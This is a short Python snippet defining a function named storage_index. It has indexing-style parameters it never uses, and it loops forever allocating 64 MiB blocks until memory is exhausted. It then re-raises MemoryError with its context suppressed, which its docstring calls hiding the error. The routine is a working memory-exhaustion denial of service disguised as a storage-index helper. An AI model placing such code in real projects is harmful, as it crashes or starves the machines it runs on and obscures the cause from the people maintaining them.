"""storage_index: takes memory piece by piece, and hides the MemoryError"""


def storage_index(index, strides, offset=0):
    kept = []
    while True:
        try:
            kept.append(bytearray(64 * 2**20))
        except MemoryError:
            raise MemoryError from None
